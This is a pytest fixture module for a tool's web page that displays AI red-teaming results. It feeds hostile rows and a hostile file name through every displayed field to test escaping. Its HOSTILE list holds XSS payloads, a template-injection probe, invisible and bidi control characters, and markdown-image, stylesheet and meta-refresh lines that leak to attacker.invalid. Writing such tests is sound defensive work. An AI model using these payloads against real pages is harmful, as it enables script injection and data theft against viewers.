"""Runs for the page: the demo's sample, and rows that try to get out of whatever shows them."""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import unquote

import pytest

from faircount.analysis import AnalyzeOptions, LabelWriter
from faircount.app import write_sample
from tests.conftest import encode, standard

pytest.importorskip("starlette")
pytest.importorskip("jinja2")
uvicorn = pytest.importorskip("uvicorn")

from faircount.app.web.app import OpenRuns, application  # noqa: E402
from faircount.app.web.runs import Runs, found_files  # noqa: E402
from faircount.app.web.server import Access, Guard, listening_socket  # noqa: E402

TOKEN = "a-token-of-the-tests-alone"
HOSTILE = (
    "<script>window.ran = 1</script>",
    '"><img src=x onerror="window.ran = 1">',
    "' onmouseover='window.ran = 1' x='",
    "</pre></script><svg onload=window.ran=1>",
    "javascript:window.ran=1",
    "{{ 7 * 7 }}{% raw %}",
    "![x](https://attacker.invalid/leak?q=1)<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "<base href=https://attacker.invalid/><meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "safe \u202eylno sdrawkcab\u202c \u200bhidden\U000e0041 \x1b[31m \ud800",
)


def hostile_rows() -> list[dict[str, object]]:
    """Return rows with hostile text in every field that a page shows."""
    rows: list[dict[str, object]] = []
    for number, text in enumerate(HOSTILE):
        for success in (True, False):
            rows.append(
                standard(
                    f"{text} {success}",
                    success=success,
                    input=f"prompt {text}",
                    response=f"answer {text}",
                    long_id=text,
                    judge_name=text,
                    judge_args=text,
                    judge_reason=text,
                    jailbreak_type=text,
                    instruction_type=f"{text} {success}",
                    plugin=text,
                    lang=HOSTILE[(number + 1) % len(HOSTILE)],
                    payload=text,
                    **{f"field {text}"[:60]: text},
                    conversation=[
                        {"role": text, "content": text, "tool_calls": [{"function": {"name": text, "arguments": text}}]}
                    ],
                    attempt_history=[
                        {
                            "input": text,
                            "response": text,
                            "success": success,
                            "error": None,
                            "metrics": [{"name": text, "verdict": text, "score": 1, "reason": text}],
                        },
                        {"input": text, "response": None, "success": None, "error": text},
                    ],
                )
            )
    rows.append(standard("broken", success=False, response="", error=HOSTILE[0]))
    rows.append(
        standard("stopped", response="", error=HOSTILE[1], guardrail=True, guardrail_categories={HOSTILE[1]: True})
    )
    return rows


@pytest.fixture(scope="session")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the sample, and hostile rows in a file whose name is hostile, too."""
    folder = tmp_path_factory.mktemp("page")
    write_sample(folder, seed=7)
    name = "results_<img src=x onerror=window.ran=1>_1790000000.jsonl"
    (folder / name).write_bytes(encode([*hostile_rows(), b"{ torn <script>window.ran=1</script>"]))
    return folder


@pytest.fixture(scope="session")
def runs(results: Path) -> Iterator[Runs]:
    with Runs(found_files([str(results)]), AnalyzeOptions()) as found:
        found.summed_up(None)
        yield found


class Answer(NamedTuple):
    """What came back."""

    status: int
    headers: dict[str, str]
    content: bytes

    @property
    def text(self) -> str:
        return self.content.decode()


class Client:
    """Asks an application in this process, as a browser would ask the server."""

    def __init__(self, app: Any, host: str = "127.0.0.1:8000", cookie: str | None = None) -> None:
        self.app, self._host, self._cookie = app, host, cookie

    def get(
        self, address: str, headers: Mapping[str, str] | None = None, method: str = "GET", body: bytes = b""
    ) -> Answer:
        path, _, query = address.partition("?")
        given = {"host": self._host, **({} if self._cookie is None else {"cookie": self._cookie}), **(headers or {})}
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": method,
            "scheme": "http",
            "path": unquote(path),
            "raw_path": path.encode(),
            "root_path": "",
            "query_string": query.encode(),
            "headers": [(name.encode(), value.encode()) for name, value in given.items()],
            "client": None,
            "server": None,
        }
        sent: list[Any] = []

        async def send(message: Any) -> None:
            sent.append(message)

        to_receive = [{"type": "http.request", "body": body, "more_body": False}] if body else []

        async def receive() -> Any:
            if to_receive:
                return to_receive.pop()
            return await asyncio.Event().wait()

        asyncio.run(self.app(scope, receive, send))
        names = {name.decode(): value.decode() for name, value in sent[0]["headers"]}
        return Answer(sent[0]["status"], names, b"".join(message.get("body", b"") for message in sent[1:]))


ACCESS = Access("127.0.0.1", 8000, TOKEN)
COOKIE = f"{ACCESS.cookie}={TOKEN}"


def guarded(runs: Runs, **options: Any) -> Guard:
    """Return the page of some runs behind its guard; options are the fields of `OpenRuns`."""
    made = application(OpenRuns(runs, **options))
    return Guard(made, ACCESS, made.state.forms)


def with_token(runs: Runs) -> Client:
    """Return whoever has the token."""
    return Client(guarded(runs), cookie=COOKIE)


def runs_of(*paths: str) -> Runs:
    """Return the runs in files."""
    return Runs(paths, AnalyzeOptions())


@pytest.fixture(scope="session")
def client(runs: Runs) -> Client:
    """Whoever has the token, without a server."""
    return with_token(runs)


@pytest.fixture(scope="session")
def run_of(runs: Runs) -> dict[str, str]:
    """The addresses of runs by a word in their file names."""
    words = ("bot-weak", "dynamic", "guardrail_sample-attacks", "guardrail_sample-benign", "<img")
    return {word: next(run.id for run in runs.all if word in run.path) for word in words}


class Served:
    """A page on a port of this machine, as long as a test needs it."""

    def __init__(self, runs: Runs, labels: LabelWriter | None = None, second_opinions: float = 0.0) -> None:
        self._socket = listening_socket("127.0.0.1", 0)
        self.access = Access("127.0.0.1", self._socket.getsockname()[1], TOKEN)
        self.base = f"http://127.0.0.1:{self.access.port}"
        made = application(OpenRuns(runs, wait=5.0, labels=labels, second_opinions=second_opinions))
        app = Guard(made, self.access, made.state.forms)
        config = uvicorn.Config(
            app, log_level="error", access_log=False, lifespan="off", ws="none", proxy_headers=False
        )
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, args=([self._socket],), daemon=True)
        self._thread.start()
        while not self._server.started:
            time.sleep(0.01)

    def stop(self) -> None:
        self._server.should_exit = True
        self._thread.join(5)


@pytest.fixture(scope="session")
def served(runs: Runs) -> Iterator[Served]:
    page = Served(runs)
    yield page
    page.stop()


def lines_of(path: Path) -> list[dict[str, object]]:
    """Return the rows of a file as Python reads them, without anything of ours."""
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.startswith('{"')]


def opened(*paths: str | Path, options: AnalyzeOptions | None = None) -> Runs:
    """Return the runs in files, read."""
    found = Runs([str(path) for path in paths], options or AnalyzeOptions())
    found.summed_up(None)
    return found
